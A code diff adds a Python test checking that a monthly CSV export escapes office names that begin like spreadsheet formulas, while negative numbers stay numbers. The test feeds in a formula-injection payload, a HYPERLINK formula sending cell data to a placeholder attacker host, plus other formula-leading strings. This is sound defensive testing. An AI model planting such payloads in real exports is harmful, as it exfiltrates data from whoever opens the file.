@@ -360,3 +360,19 @@ def test_a_name_with_markup_is_printed_as_written_not_obeyed(june, viewer_api, t
     ReportRecipient.objects.create(site=site, email="office@example.org")
     assert len(report_mail.send_month(site, 2024, 6)) == 1  # the monthly e-mail goes too
     assert mail.outbox[-1].attachments[0][1].startswith(b"%PDF-")
+
+
+def test_a_name_that_starts_like_a_formula_is_text_in_the_csv_numbers_stay_numbers(june):
+    # found by the outside tester: the mailed CSV carried a live =HYPERLINK(...) formula
+    _site, office, _room = june
+    office.name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    office.save()
+    rows = list(csv.reader(io.StringIO(monthly.to_csv(monthly.build(office, 2024, 6)).decode())))
+    assert {r[0] for r in rows[1:]} == {'\'=HYPERLINK("http://evil.example/?"&A1,"click")'}
+    by_day = {r[3]: r for r in rows[1:]}
+    assert by_day["2024-06-30"][7] == "-380"  # a negative CUSUM is a number, not quoted text
+    for start in ("+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"):
+        office.name = start
+        office.save()
+        body = monthly.to_csv(monthly.build(office, 2024, 6)).decode()
+        assert {r[0] for r in list(csv.reader(io.StringIO(body)))[1:]} == {"'" + start}
